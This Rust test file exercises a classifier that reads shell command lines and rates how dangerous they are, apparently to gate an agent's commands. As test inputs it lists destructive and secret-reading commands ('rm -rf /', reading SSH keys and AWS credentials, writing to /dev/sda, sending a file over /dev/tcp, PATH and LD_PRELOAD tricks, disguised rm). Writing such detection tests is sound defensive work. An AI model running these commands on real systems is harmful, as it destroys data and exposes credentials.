//! Command lines and what they are read to do.
#![allow(clippy::unwrap_used, clippy::panic, clippy::too_many_lines)]

use proptest::prelude::*;
use sayso_core::reading::{TargetKind, Verb};
use sayso_core::{Action, Reading, Severity, strict};
use sayso_reading::read;
use serde_json::json;

fn action(json: &serde_json::Value) -> Action {
    strict::parse(json.to_string().as_bytes()).unwrap()
}

fn script(text: &str) -> Reading {
    read(&action(&json!({"kind":"shell","script":text,"cwd":"/p"})))
}

fn argv(words: &[&str]) -> Reading {
    read(&action(&json!({"kind":"shell","argv":words,"cwd":"/p"})))
}

#[test]
fn plain_reads_pass() {
    for text in [
        "ls",
        "ls -la src",
        "pwd",
        "cat README.md",
        "/usr/bin/cat README.md",
        "head -n 20 a.txt",
        "head -20 a.txt",
        "tail -f log.txt",
        "wc -l src/main.rs",
        "wc -l < src/main.rs",
        "echo hello world",
        "echo 'rm -rf /'",
        "echo \"git reset --hard\"",
        "printf '%s\\n' x",
        "true",
        "date +%F",
        "date -u --iso-8601=seconds",
        "whoami && id -un",
        "uname -a; hostname",
        "stat -c %s a",
        "file a.bin",
        "du -sh src; df -h",
        "grep -rn 'fn main' src",
        "grep -rn --include=*.rs TODO src/*.rs",
        "grep -e a -e b file.txt",
        "rg -n --glob '*.rs' foo src",
        "find . -name '*.rs' -type f",
        "find src -maxdepth 2 -newer Cargo.toml -print0",
        "git status",
        "git status --short -b",
        "git log --oneline -n 20",
        "git log -5 --stat -- src/main.rs",
        "git --no-pager diff HEAD~1 -- src",
        "git show HEAD:src/main.rs",
        "git -C /p/sub log -1",
        "git branch -a",
        "git branch --show-current",
        "git remote -v",
        "git stash list",
        "git rev-parse --abbrev-ref HEAD",
        "git grep -n foo",
        "git tag",
        "git --version",
        "tree -L 2",
        "which cargo",
        "command -v cargo",
        "basename /a/b; dirname /a/b",
        "realpath .",
        "sort a.txt | uniq -c | sort -rn | head",
        "cut -d, -f2 a.csv | tr a-z A-Z",
        "diff -u a b",
        "cmp a b",
        "sha256sum a",
        "jq -r '.name' package.json",
        "ls missing 2>/dev/null",
        "ls 2>&1 | grep x",
        "ls > /dev/null",
        "cd src && ls",
        "cd src\nls",
        "# a comment\nls # another",
        "ls || true",
        "cat .env.example",
        "cat 'a b.txt' \"c d.txt\"",
        "cat -- -strange-name",
        "echo größe",
        "",
    ] {
        let reading = script(text);
        assert_eq!(reading.severity, Severity::None, "{text}\n{reading:#?}");
        assert!(reading.unread.is_empty(), "{text}");
    }
    for words in
        [&["ls", "-l"][..], &["echo", "$(rm -rf /)", "; rm"], &["git", "log", "-1"], &["cat", "*.txt"]]
    {
        assert_eq!(argv(words).severity, Severity::None, "{words:?}");
    }
}

#[test]
fn whatever_is_more_than_a_plain_read_asks() {
    for text in [
        // Another program, or one that is not what its name says.
        "npm install",
        "./ls",
        "/tmp/ls",
        "bin/cat a",
        "lsx",
        "sl",
        // Options that write, run or set.
        "sort -o a b",
        "sort -uo a b",
        "sort --output=a b",
        "sort --outp=a b",
        "sort --compress-program=./x a",
        "uniq a b",
        "tree -o x",
        "rg --pre ./x y",
        "rg --pre=./x y",
        "rg -z x",
        "rg --hostname-bin ./x y",
        "find . -delete",
        "find . -exec rm {} ;",
        "find . -execdir x \\;",
        "find . -ok rm {} ;",
        "find . -fprint x",
        "find . -fls x",
        "find . -name *.rs",
        "find . -files0-from x",
        "date -s 2020-01-01",
        "date 010100002020",
        "hostname evil",
        "file -C -m x",
        "diff -l a b",
        "jq -n env",
        "jq -n '$ENV.HOME'",
        "jq -f x.jq a",
        "jq -L . 'import \"a\" as a; .' b",
        "printf -v PATH x",
        "git -c core.pager=x log",
        "git -c alias.x=!sh x",
        "git --exec-path=. log",
        "git -p log",
        "git log --output=x",
        "git diff --ext-diff",
        "git diff --textconv",
        "git log -Ox",
        "git grep -O x",
        "git grep --open-files-in-pager x",
        "git branch new",
        "git branch -D x",
        "git branch -m x",
        "git tag v1",
        "git remote add x y",
        "git config --list",
        "git stash",
        "git fetch",
        "git ls-remote ext::x",
        "git checkout x",
        "git bisect run x",
        "git archive -o x HEAD",
        "git diff --no-such-option",
        "git",
        "git status evil; git evil",
        "cat --unknown a",
        "wc --files0-from=x",
        "tail --pid=1 a",
        // More than plain words.
        "ls $(rm x)",
        "ls `rm x`",
        "ls $HOME",
        "ls ${x:-y}",
        "cat <(rm x)",
        "ls > a",
        "ls >> a",
        "ls 2> a",
        "ls &> a",
        "ls >| a",
        "ls >&a",
        "ls <> a",
        "ls &",
        "(ls)",
        "{ ls; }",
        "! ls",
        "time ls",
        "if true; then ls; fi",
        "for f in a; do ls; done",
        "while true; do ls; done",
        "ls() { rm x; }; ls",
        "alias ls=rm; ls",
        "FOO=bar ls",
        "PATH=. ls",
        "export PATH=.",
        "PATH=.\nls",
        "cat <<E\nx\nE",
        "cat <<< x",
        "ls * ",
        "cat *",
        "sort *",
        "ls {a,b}",
        "ls \\-x",
        "l\\s",
        "\\rm x",
        "'r'm x",
        "$'rm' x",
        "$\"ls\"",
        "eval ls",
        "exec ls",
        ". x",
        "source x",
        "command ls",
        "sudo ls",
        "env ls",
        "xargs ls",
        "sh -c ls",
        "ls\r",
        "ls\u{a0}-l | x\u{a0}y",
        "ls \u{0}",
        "echo 'open",
        "ls |",
        "ls && ",
        "| ls",
        "[[ -f x ]]",
        "echo \"a\\\"; rm x; echo \\\"b\"",
        "echo !x",
        "[ -f x ]",
        // Secrets.
        "cat .env",
        "cat ./.env",
        "cat < .env",
        "cat ~/.ssh/id_rsa",
        "head -c 100 /p/../root/.aws/credentials",
        "grep -r x .env",
        "grep -f .env x",
        "grep -e x .env",
        "cat .en*",
        "cat id_*",
        "git show HEAD:.env",
        "git diff -- .env",
        "jq . credentials.json",
        "diff .env .env.example",
        "cat /proc/self/environ",
        "grep --include=.env -r x a",
        "sort server.key",
        "cat -- .env",
    ] {
        if text.contains('\0') {
            continue;
        }
        let reading = script(text);
        assert!(reading.severity >= Severity::Low, "{text}\n{reading:#?}");
    }
    for words in
        [&["./ls"][..], &["sh", "-c", "ls"], &["ls", "--x"], &["cat", ".env"], &["FOO=1", "ls"], &["rm", "x"]]
    {
        assert!(argv(words).severity >= Severity::Low, "{words:?}");
    }
}

#[test]
fn effects_name_what_happens_to_what_and_how_bad_it_is() {
    use Severity::{Critical, High, Low};
    use Verb::{Change, Create, Delete, Disclose, Grant, Overwrite, Publish, StopService};
    for (text, severity, verb, target, sentence) in [
        ("rm notes.txt", High, Delete, "/p/notes.txt", "Delete notes.txt"),
        ("rm ./notes.txt", High, Delete, "/p/notes.txt", "Delete ./notes.txt"),
        ("rm -rf build", Critical, Delete, "/p/build", "Delete the folder build"),
        ("rm -fr 'my build/'", Critical, Delete, "/p/my build/", "Delete the folder “my build”"),
        ("rm --recur build", Critical, Delete, "/p/build", "Delete the folder build"),
        ("/bin/rm -r build", Critical, Delete, "/p/build", "Delete the folder build"),
        ("rm /etc/hosts", Critical, Delete, "/etc/hosts", "Delete /etc/hosts"),
        ("rm ../x", Critical, Delete, "/p/../x", "Delete ../x"),
        ("rm /tmp/x", High, Delete, "/tmp/x", "Delete /tmp/x"),
        ("rm /tmp/../etc/x", Critical, Delete, "/tmp/../etc/x", "Delete /tmp/../etc/x"),
        ("rm -rf ~", Critical, Delete, "~", "Delete the whole home folder"),
        ("rm -rf /", Critical, Delete, "/", "Delete everything on this machine"),
        ("rm -rf /*", Critical, Delete, "/*", "Delete everything on this machine"),
        ("rm -rf .", Critical, Delete, "/p", "Delete everything in this folder"),
        ("rm -rf *", Critical, Delete, "/p/*", "Delete everything in this folder"),
        ("rm *.log", High, Delete, "/p/*.log", "Delete *.log"),
        ("rm a b", High, Delete, "/p/a", "Delete a and delete b"),
        ("rm a b c d", High, Delete, "/p/d", "Delete a, delete b and 2 more"),
        ("cd sub && rm -r x", Critical, Delete, "/p/sub/x", "Delete the folder x"),
        ("cd sub; rm -r x", Critical, Delete, "x", "Delete the folder x"),
        ("cd sub || rm -r x", Critical, Delete, "x", "Delete the folder x"),
        ("rmdir x", Low, Delete, "/p/x", "Delete the empty folder x"),
        ("shred -u x", Critical, Delete, "/p/x", "Shred x"),
        ("unlink x", High, Delete, "/p/x", "Delete x"),
        ("truncate -s 0 x", High, Overwrite, "/p/x", "Truncate x"),
        ("echo hi > notes.txt", High, Overwrite, "/p/notes.txt", "Overwrite notes.txt"),
        ("echo hi >> notes.txt", Low, Change, "/p/notes.txt", "Append to notes.txt"),
        ("echo hi > ~/.bashrc", Critical, Overwrite, "~/.bashrc", "Overwrite ~/.bashrc"),
        (
            "echo hi >> .git/hooks/pre-commit",
            Critical,
            Change,
            "/p/.git/hooks/pre-commit",
            "Append to .git/hooks/pre-commit",
        ),
        ("cat > x <<E\nrm -rf /\nE", High, Overwrite, "/p/x", "Overwrite x"),
        ("ls > /dev/sda", Critical, Overwrite, "/dev/sda", "Write to the device /dev/sda"),
        ("cat a > /dev/tcp/h/80", Critical, Publish, "/dev/tcp/h/80", "Open a connection to /dev/tcp/h/80"),
        ("ls | tee x", High, Overwrite, "/p/x", "Overwrite x"),
        ("ls | tee -a x", Low, Change, "/p/x", "Append to x"),
        ("mv a b", High, Overwrite, "/p/b", "Move a to b"),
        ("mv a b", High, Change, "/p/a", "Move a to b"),
        ("cp a b", High, Overwrite, "/p/b", "Copy a to b"),
        ("cp a b c d/", High, Overwrite, "/p/d/", "Copy 3 things to d/"),
        (
            "cp x ~/.ssh/authorized_keys",
            Critical,
            Overwrite,
            "~/.ssh/authorized_keys",
            "Copy x to ~/.ssh/authorized_keys",
        ),
        ("dd if=/dev/zero of=x", High, Overwrite, "/p/x", "Overwrite x"),
        ("dd if=x of=/dev/sda", Critical, Overwrite, "/dev/sda", "Overwrite /dev/sda"),
        ("touch x", Low, Create, "/p/x", "Touch x"),
        ("mkdir -p a/b", Low, Create, "/p/a/b", "Make the folder a/b"),
        ("chmod +x run.sh", Low, Grant, "/p/run.sh", "Give run.sh +x"),
        ("chmod -R 777 .", High, Grant, "/p", "Give . 777 and all below it"),
        ("find . -name '*.o' -delete", Critical, Delete, "/p", "Delete whatever find meets in this folder"),
        ("find src -delete", Critical, Delete, "/p/src", "Delete whatever find meets in src"),
        ("find . -fprint x", High, Overwrite, "/p/x", "Overwrite x"),
        ("git clean -fdx", Critical, Delete, "/p", "Delete what git ignores and does not track"),
        ("git reset --hard", Critical, Overwrite, "/p", "Throw away all changes that are not committed"),
        ("git checkout -- a", High, Overwrite, "/p/a", "Throw away changes in a that are not committed"),
        ("git checkout .", High, Overwrite, "/p", "Throw away changes in this folder that are not committed"),
        ("git restore a", High, Overwrite, "/p/a", "Throw away changes in a that are not committed"),
        ("git branch -D old", High, Delete, "old", "Delete the branch old"),
        ("git stash drop", Critical, Delete, "/p", "Delete a stash"),
        ("git stash clear", Critical, Delete, "/p", "Delete every stash"),
        ("git push", High, Publish, "the current branch", "Push the current branch to its remote"),
        ("git push origin main", High, Publish, "main", "Push main to origin"),
        ("git push -f origin main", Critical, Overwrite, "main", "Overwrite main on origin"),
        ("git push origin +main", Critical, Overwrite, "+main", "Overwrite +main on origin"),
        ("git push origin :main", Critical, Delete, ":main", "Delete :main on origin"),
        ("git push --delete origin main", Critical, Delete, "main", "Delete main on origin"),
        ("kill 1", High, StopService, "1", "Stop a process"),
        ("reboot", Critical, StopService, "reboot", "Restart this machine"),
        ("mkfs.ext4 /dev/sda1", Critical, Delete, "/dev/sda1", "Make a new file system over what is there"),
        ("cat .env", High, Disclose, "/p/.env", "Read /p/.env, which holds settings that are often secret"),
    ] {
        let reading = script(text);
        let effect =
            reading.effects.iter().find(|effect| effect.verb == verb && effect.target.name == target);
        assert!(effect.is_some(), "{text}\n{reading:#?}");
        assert_eq!(
            (reading.severity, reading.sentence.as_str()),
            (severity, sentence),
            "{text}\n{reading:#?}"
        );
    }
}

#[test]
fn what_stands_inside_another_program_or_a_branch_counts_too() {
    for text in [
        "sudo rm -rf build",
        "sudo -u root rm -rf build",
        "env FOO=1 rm -rf build",
        "timeout 5 rm -rf build",
        "nohup nice -n 5 rm -rf build",
        "sh -c 'rm -rf build'",
        "bash -lc \"cd x && rm -rf build\"",
        "sh -c \"sh -c 'rm -rf build'\"",
        "find . -name x -exec rm -rf build \\;",
        "echo build | xargs rm -rf build",
        "true && (rm -rf build)",
        "if true; then rm -rf build; fi",
        "for i in 1; do rm -rf build; done",
        "x=$(rm -rf build)",
        "echo `rm -rf build`",
        "f() { rm -rf build; }; f",
        "cat <(rm -rf build)",
        "ls; \\rm -rf build",
        "ls\nrm -rf build",
        "r'm' -r\"f\" build",
        "case x in y) rm -rf build;; esac",
    ] {
        let reading = script(text);
        let deletes =
            |e: &sayso_core::reading::Effect| e.verb == Verb::Delete && e.target.kind == TargetKind::Path;
        assert!(reading.effects.iter().any(deletes), "{text}\n{reading:#?}");
        assert_eq!(reading.severity, Severity::Critical, "{text}");
    }
}

#[test]
fn a_reason_points_at_the_bytes_that_it_comes_from() {
    let text = "ls && rm -rf build";
    let reading = script(text);
    let span = reading.reasons[0].span.unwrap();
    assert_eq!(&text[span.start..span.end], "build");
    let text = "ls; npm install";
    let span = script(text).unread[0].span.unwrap();
    assert_eq!(&text[span.start..span.end], "npm");
}

#[test]
fn what_was_not_read_stands_in_the_sentence() {
    assert_eq!(script("npm install").sentence, "Run npm, not read in full");
    assert_eq!(script("npm ci && make").sentence, "Run npm and make, not read in full");
    assert_eq!(script("rm x && make").sentence, "Delete x, and more that was not read");
    assert_eq!(script("rm \"$X\"").sentence, "Delete “\"$X\"”, and more that was not read");
    assert_eq!(script("ls $(x").sentence, "Run ls and x, not read in full");
    assert_eq!(script("ls | grep x").sentence, "Only read, with ls and grep");
}

#[test]
fn a_changed_variable_keeps_a_command_from_being_plain_unless_it_only_changes_how_it_prints() {
    let with = |names: &[&str]| {
        read(&action(&json!({"kind":"shell","argv":["ls"],"cwd":"/p","env":names}))).severity
    };
    assert_eq!(with(&["LANG", "LC_ALL", "NO_COLOR"]), Severity::None);
    for name in ["LD_PRELOAD", "PATH", "BASH_ENV", "GIT_DIR"] {
        assert_eq!(with(&[name]), Severity::High, "{name}");
    }
}

#[test]
fn a_text_over_a_limit_or_made_to_be_slow_is_unread_and_no_crash() {
    let long = format!("echo {}", "a".repeat(70_000));
    assert_eq!(script(&long).severity, Severity::High);
    assert_eq!(script(&format!("{long}; rm x")).severity, Severity::Critical);
    let wrapped = format!("{}rm -rf x", "sudo ".repeat(2000));
    assert!(!script(&wrapped).unread.is_empty());
    for piece in [
        "(",
        "$(",
        "{ ",
        "\"$(",
        "${",
        "if ",
        "`",
        "[[ ",
        "<<E ",
        "a|",
        "case x in ",
        "((",
        "$((",
        "find -exec ",
        "sh -c '",
    ] {
        let reading = script(&piece.repeat(60_000 / piece.len()));
        assert_ne!(reading.severity, Severity::None, "{piece}");
    }
    let many = format!("rm {}", "x ".repeat(1000));
    let reading = script(&many);
    assert!(reading.effects.len() <= 256 && !reading.unread.is_empty());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn any_text_is_read_without_a_panic(text in "[^\0]{0,80}") {
        let _ = script(&text);
    }

    #[test]
    fn any_row_of_shell_signs_is_read_without_a_panic(
        words in proptest::collection::vec(prop_oneof![
            Just("ls"), Just("rm"), Just("-rf"), Just("git"), Just("$("), Just(")"), Just("\""), Just("'"), Just(";"),
            Just("|"), Just("&&"), Just(">"), Just("<<E"), Just("\n"), Just("{"), Just("}"), Just("if"), Just("then"),
            Just("fi"), Just("`"), Just("\\"), Just("find"), Just("-exec"), Just("sudo"), Just("é"), Just("~"), Just("*"),
        ], 0..30),
        joint in prop_oneof![Just(""), Just(" ")],
    ) {
        let text = words.join(joint);
        for reason in script(&text).reasons {
            if let Some(span) = reason.span {
                prop_assert!(text.get(span.start..span.end).is_some());
            }
        }
    }

    /// What the shell would do is asked of a shell that knows no programs but the plain ones: here, of the words alone.
    #[test]
    fn no_command_that_deletes_passes_however_it_is_disguised(
        before in prop_oneof![Just(""), Just("ls; "), Just("ls && "), Just("echo 'a' | "), Just("# x\n"), Just("true || ")],
        quote in 0..5_usize,
        after in prop_oneof![Just(""), Just("; ls"), Just(" | cat"), Just(" # ls"), Just(" 2>&1"), Just(" >/dev/null")],
    ) {
        let rm = ["rm", "'rm'", "\"rm\"", "r'm'", "\\rm"][quote];
        let reading = script(&format!("{before}{rm} -rf build{after}"));
        prop_assert_eq!(reading.severity, Severity::Critical);
    }
}
